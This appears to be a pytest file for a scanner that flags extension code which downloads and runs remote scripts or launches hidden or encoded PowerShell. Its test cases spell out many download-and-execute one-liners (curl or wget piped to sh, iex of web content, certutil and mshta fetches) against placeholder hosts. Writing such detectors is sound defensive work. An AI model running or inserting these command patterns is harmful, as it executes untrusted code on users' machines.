import base64

import pytest

from tests.offline import found
from vscan.model import Severity

CRITICAL, HIGH = Severity.CRITICAL, Severity.HIGH
EXEC = 'const cp = require("child_process");\n'


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ('cp.exec("npx -y github:acme/tools#0123456789abcdef0123456789abcdef01234567")', CRITICAL),
        ('cp.exec("npm exec --yes github:acme/tools#0123456")', CRITICAL),
        ('cp.spawn("npx", ["-y", "github:acme/tools#0123456789abcdef"])', CRITICAL),
        ("cp.execSync(`npx --yes git+https://github.com/acme/tools.git#0123456`)", CRITICAL),
        ('cp.exec("npx -y acme/tools#0123456789abcdef")', CRITICAL),
        ('new vscode.McpStdioServerDefinition("x", "npx", ["-y", "github:a/b#0123456"])', CRITICAL),
        ('cp.exec("npx github:acme/tools")', HIGH),
        ('cp.exec("curl -s https://acme.example/x.js | node")', HIGH),
        ('cp.exec("curl -so /tmp/x https://acme.example && chmod +x /tmp/x && sh /tmp/x")', HIGH),
        ('cp.exec("certutil -urlcache -f https://acme.example/x.exe x.exe")', HIGH),
        ('cp.exec("cmd /c mshta https://acme.example/x")', HIGH),
        ('cp.exec("curl -fsSL https://acme.example/x.sh | sh")', HIGH),
        ("cp.exec('wget -qO- https://acme.example/x.sh | sudo bash')", HIGH),
        ('cp.spawn("sh", ["-c", "curl https://acme.example | /bin/sh"])', HIGH),
        ('cp.exec("bash -c \\"$(curl -fsSL https://acme.example/x)\\"")', HIGH),
        ('cp.exec("bash <(curl -s https://acme.example/x)")', HIGH),
        ('terminal.sendText("curl https://acme.example | bash")', HIGH),
        ('cp.exec("powershell -c \\"irm https://acme.example/x | iex\\"")', HIGH),
        ('cp.exec("nohup curl -s https://acme.example/x | zsh &")', HIGH),
        ('cp.exec("wget -q https://acme.example/x.sh && sh ./x.sh")', HIGH),
    ],
)
def test_a_command_that_fetches_and_runs_is_found(code: str, severity: Severity) -> None:
    assert found(EXEC + code) == {"runs-remote-code": severity}


@pytest.mark.parametrize(
    "code",
    [
        'show("Install it: curl -fsSL https://acme.example/x.sh | sh")',  # says so, runs nothing
        'cp.exec("npx prettier --write .")',
        'cp.exec("npx -y acme-tools@1.2.3")',
        'cp.exec("curl -fsSL https://acme.example/x.json | jq .")',
        'cp.exec("curl https://acme.example/x.sh -o x.sh")',
        'cp.exec("git clone github:acme/tools")',
        'cp.exec("wget -q https://acme.example/a.tgz -O a.tgz && sh ./build.sh")',
        'cp.exec("curl -so /tmp/x https://acme.example && sh /tmp/xy")',
        'cp.exec("nohup curl -so x.sh https://acme.example/x.sh &")',
    ],
)
def test_commands_that_run_no_download_are_not_found(code: str) -> None:
    assert found(EXEC + code) == {}


def test_a_command_that_no_code_runs_is_not_found() -> None:
    assert found('const hint = "curl https://acme.example | sh"') == {}


def test_a_shell_script_runs_its_lines_but_not_its_comments() -> None:
    line = "curl https://acme.example/x | sh"
    assert found(f"#!/bin/sh\n{line}\n", "setup.sh") == {"runs-remote-code": HIGH}
    assert found(f"#!/bin/sh\n# {line}\n", "setup.sh") == {}
    assert found(f"# Setup\n\n{line}\n", "README.md") == {}


def test_powershell_s_own_script_needs_no_powershell() -> None:
    line = "iex (iwr 'https://acme.example/x.ps1' -UseBasicParsing)\r\n"
    assert found(line, "setup.ps1") == {"runs-remote-code": HIGH}
    assert found(f"# {line}", "setup.ps1") == {}
    help_comment = f"<#\r\n.EXAMPLE\r\n{line}#>\r\n"
    assert found(f"\ufeff{help_comment}", "setup.ps1") == {}
    assert found(f"{help_comment}{line}", "setup.ps1") == {"runs-remote-code": HIGH}
    assert found(f'Write-Host "<#"\r\n{line}', "setup.ps1") == {"runs-remote-code": HIGH}
    assert found("iex (Get-Content x.ps1)\r\niwr 'https://acme.example'", "setup.ps1") == {}


@pytest.mark.parametrize(
    "command",
    [
        "powershell -WindowStyle Hidden -EncodedCommand $x",
        "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File x.ps1",
        "powershell.exe -w hidden -enc $x",
        "powershell -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=",
        "powershell /EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwA=",
        'powershell", ["-NoP", "-Enc", "ZQBjAGgAbwAgAGgAZQBsAGwAbwA=',
        "powershell -nop -w 1 -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A",
        'powershell", ["-NoProfile", "-w", "hidden", "-c", "iex (iwr https://acme.example)',
        "pwsh -WindowStyle Hidden -c (New-Object Net.WebClient).DownloadFile(1)",
        "PowerShell -Win Hidden -Command IEX ([Convert]::FromBase64String($x))",
    ],
)
def test_a_hidden_powershell_is_found(command: str) -> None:
    assert found(f"{EXEC}cp.exec('{command}')")["hidden-powershell"] is CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        "powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand",
        "powershell -NoProfile -Command Get-Process",
        "powershell -Command Start-Process x.exe -WindowStyle Hidden",
        "powershell -WindowStyle Normal -Command Get-Clipboard",
        "powershell.exe', ['-File', script], {windowsHide: true})('",
        "powershell', ['-ExecutionPolicy', 'Bypass', '-File', f], {windowsHide: true})('",
        "powershell -Command Get-Content a.txt -Encoding Unicodes",
        "powershell -Command Get-Content a.txt -en ThisIsNoBase64",
    ],
)
def test_an_ordinary_powershell_is_not_found(command: str) -> None:
    assert found(f"{EXEC}cp.exec('{command}')") == {}


def encoded(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("code", "is_found"),
    [
        ("Get-Process | Select-Object Id,Name | ConvertTo-Json", False),
        ("Get-Process; Remove-Item x -Recurse", True),
        ("Get-Process; iwr https://a.invalid | iex", True),
        ("Get-Process | % { [Convert]::FromBase64String($_) }", True),
    ],
)
def test_an_encoded_command_counts_if_it_does_more_than_ask(code: str, *, is_found: bool) -> None:
    command = f"powershell -NoProfile -EncodedCommand {encoded(code)}"
    rules = found(f"{EXEC}cp.exec('{command}', {{ windowsHide: true }})")
    assert ("hidden-powershell" in rules) is is_found


def test_an_encoded_command_that_is_not_known_is_medium() -> None:
    code = "cp.exec(`powershell -EncodedCommand ${code}`, { windowsHide: true })"
    assert found(f"{EXEC}{code}") == {"hidden-powershell": Severity.MEDIUM}


@pytest.mark.parametrize("command", ["powershell -w hidden -c dir", "pwsh -Win Hidden -Command ls"])
def test_a_command_without_a_window_is_less_severe(command: str) -> None:
    assert found(f"{EXEC}cp.exec('{command}')") == {"hidden-powershell": HIGH}
    assert found(f"show('{command}')") == {}


def test_a_harmless_repository_hides_no_pinned_one_in_the_same_command() -> None:
    code = 'exec("npx --registry github:a/tool github:b/tool#0123456789abcdef");'
    assert found(code) == {"runs-remote-code": Severity.CRITICAL}


def test_a_line_beyond_the_lookback_is_not_a_comment() -> None:
    """Two slashes just where the look back ends begin no line."""
    before = 'require("child_process").exec("'
    slashes = "'" + "//".ljust(10_000 - len(before) - 2) + "';"
    code = slashes + before + 'curl https://e.example/i | sh");'
    assert code[code.index("curl") - 10_000 :].startswith("//")
    assert found(code) == {"runs-remote-code": Severity.HIGH}


CONSTANT = EXEC + 'cp.exec("git status");const INSTALL="curl -fsSL https://acme.example | bash";'


@pytest.mark.parametrize(
    "use",
    [
        "",
        "vscode.window.showErrorMessage(`Not found. Run this: ${INSTALL}`, 'Copy');",
        "const { window: w } = vscode; w.showInformationMessage(INSTALL);",
        "vscode.env.clipboard.writeText(INSTALL);",
        "const hint = `or ${INSTALL}`; vscode.window.showInformationMessage(hint);",
        "export{INSTALL,a as b};",
    ],
)
def test_a_command_that_is_only_shown_or_exported_is_not_found(use: str) -> None:
    start = f'const vscode = require("vscode");{CONSTANT}'
    assert found(start + use, "a.mjs") == {}
    assert found(f"{start}{use}cp.exec(INSTALL);", "a.mjs")["runs-remote-code"] == HIGH


@pytest.mark.parametrize(
    "use",
    [
        "cp.exec(INSTALL);",
        "vscode.window.showErrorMessage(`${cp.exec(INSTALL)}`);",
        "const x = { showErrorMessage: cp.exec }; x.showErrorMessage(INSTALL);",
        "const w = window; w['show' + 'ErrorMessage'] = cp.exec; w.showErrorMessage(INSTALL);",
        "const run = (c) => cp.exec(c); run(INSTALL);",
        "cp.exec(`${INSTALL}`);",
    ],
)
def test_a_command_that_its_file_uses_is_high(use: str) -> None:
    assert found(CONSTANT + use, "a.mjs")["runs-remote-code"] == HIGH
